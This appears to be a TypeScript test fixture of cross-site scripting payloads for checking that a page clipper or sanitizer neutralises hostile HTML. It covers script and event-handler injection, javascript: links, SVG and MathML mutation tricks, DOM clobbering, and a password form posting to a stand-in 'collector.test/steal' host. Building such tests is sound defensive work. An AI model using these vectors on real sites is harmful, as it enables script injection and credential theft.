/** Articles with many attacks of one kind in the middle of their text. */
import { ISOLATED, type HostileCase } from '../case';

/** By what they attack with. `/ran?…` as it stands is a request that a style or a link makes. */
const bodies: Record<string, string> = {
  script:
    `<script>RUN</script><script src="data:text/javascript,RUN"></script>` +
    `<noscript><img src=x onerror="RUN"></noscript><xmp><script>RUN</script></xmp>`,
  handlers:
    `<p onclick="RUN" onmouseover="RUN">A paragraph with handlers of its own, which ought to arrive as plain words.</p>` +
    `<img src="missing.png" onerror="RUN" width="300" height="200" alt="broken">` +
    `<details ontoggle="RUN" open><summary>More</summary>Folded text</details>` +
    `<video onerror="RUN" autoplay><source src="missing.mp4" onerror="RUN"></video>` +
    `<style>@keyframes k{from{opacity:.5}}</style><b style="animation:k 1s" onanimationstart="RUN">bold</b>` +
    `<input onfocus="RUN" onchange="RUN">`,
  'javascript-links':
    `<p>Links that are traps: <a href="javascript:RUN">plain</a>, <a href="  java&#9;script:RUN">with a tab</a>, ` +
    `<a href="&#1;JaVaScRiPt:RUN">in capitals</a>, <a href="vbscript:msgbox(1)">basic</a>, ` +
    `<a href="data:text/html,<script>alert(1)</script>">data</a>, <a href="blob:null/1">blob</a>, ` +
    `<a href="/fine" target="javascript:RUN" ping="/ran?ping">fine</a>.</p>` +
    `<map name="m"><area href="javascript:RUN" shape="default" alt="area"></map>`,
  svg:
    `<svg width="300" height="200" onload="RUN"><script>RUN</script><rect width="300" height="200" fill="teal"/>` +
    `<a xlink:href="javascript:RUN" href="javascript:RUN"><text x="10" y="40">press</text>` +
    `<animate attributeName="href" values="javascript:RUN"/><set attributeName="onmouseover" to="RUN"/></a>` +
    `<foreignObject width="100" height="100"><iframe srcdoc="<script>RUN</script>"></iframe><img src="x" onerror="RUN"></foreignObject>` +
    `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x"/></svg>` +
    `<img alt="svg picture" width="300" height="200" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>">`,
  mathml:
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;RUN&quot;&gt;"></style></mglyph></table></mtext></math>` +
    `<math href="javascript:RUN"><mi xlink:href="javascript:RUN">x</mi><annotation-xml encoding="text/html"><img src="x" onerror="RUN"></annotation-xml></math>` +
    `<math><maction actiontype="statusline#javascript:RUN"><mi>y</mi></maction></math>` +
    `<svg></p><style><g title="</style><img src=x onerror="RUN">">`,
  style:
    `<style>div, iframe, dialog, :popover-open { display: none !important; opacity: 0 !important; scale: 0 !important } :host, main { color: red }</style>` +
    `<link rel="stylesheet" href="data:text/css,body{background:url(/ran?link)}">` +
    `<p style="position:fixed;inset:0;background:url(javascript:RUN);z-index:2147483647;font-size:90px">A paragraph that would like to cover everything, written long enough to count as text.</p>`,
  form:
    `<form action="https://collector.test/steal" onsubmit="RUN"><label>Your password <input type="password" name="password" value=""></label>` +
    `<select name="s"><option>one</option></select><textarea name="t"></textarea>` +
    `<button formaction="javascript:RUN">Continue</button><input type="image" src="x" onerror="RUN"></form>`,
  clobbering:
    `<form id="content" name="body"><input name="attributes"><input name="nodeName"><input name="parentNode"><input name="childNodes"><input name="tagName"></form>` +
    `<img name="createElement" src="x" alt=""><img name="querySelector" src="x" alt=""><img name="getElementById" alt="">` +
    `<a id="documentElement" name="documentElement" href="/a"></a><a id="defaultView"></a><a id="defaultView" name="top"></a>` +
    `<form name="documentElement"></form><form name="implementation"></form><form name="styleSheets"></form>`,
  srcdoc:
    `<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe><iframe src="javascript:RUN"></iframe>` +
    `<object data="data:text/html,&lt;script&gt;RUN&lt;/script&gt;"></object><embed src="javascript:RUN">` +
    `<portal src="javascript:RUN"></portal>`,
  refresh:
    `<meta http-equiv="refresh" content="3600;url=javascript:RUN"><meta http-equiv="content-security-policy" content="img-src *">` +
    `<p>The tag above asks the browser to leave for somewhere else, an hour from now, which a clip has no use for.</p>`,
  shadow:
    `<div><template shadowrootmode="open"><img src="missing.png" onerror="RUN"><p>Words in a shadow root, visible on the page and long enough to be read as text.</p></template></div>` +
    `<script>window.made=0;customElements.define('x-trap',class extends HTMLElement{constructor(){super();window.made++;RUN}connectedCallback(){RUN}})</script>` +
    `<x-trap>Text of a custom element that counts how often it was made.</x-trap>`,
  'lazy-sources':
    `<img data-src="javascript:RUN" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="300" height="200" alt="lazy">` +
    `<img data-src='x" onerror="RUN' data-srcset="javascript:RUN 2x" width="300" height="200" alt='"><img src=x onerror=RUN>'>` +
    `<picture><source srcset="javascript:RUN"><img src="missing.png" width="300" height="200" alt="picture"></picture>`,
  text: `<p>Words that look like markup: &lt;img src=x onerror="RUN"&gt; and &lt;script&gt;RUN&lt;/script&gt; and [click](javascript:alert(1)) and &lt;/textarea&gt;.</p>`,
};

/** A base element that sends every link elsewhere, metadata that looks like markup. */
const heads: Record<string, string> = {
  base: '<base href="https://elsewhere.test/deep/" target="_top">',
  metadata:
    `<meta name="author" content='"><img src=x onerror="RUN">'><meta property="og:site_name" content="<script>RUN</script>">` +
    `<meta property="og:image" content="javascript:RUN"><link rel="canonical" href="javascript:RUN">` +
    `<script type="application/ld+json">{"@type":"Article","headline":"<img src=x onerror=\\"RUN\\">","author":{"name":"</script><script>RUN</script>`,
};

export const attackCases: HostileCase[] = [
  ...Object.entries(bodies).map(([name, body]) => ({
    name: `attack-${name}`,
    body,
    load: 'alone' as const,
    ...(name === 'clobbering' ? ISOLATED : {}),
  })),
  ...Object.entries(heads).map(([name, head]) => ({ name: `attack-${name}`, head })),
];
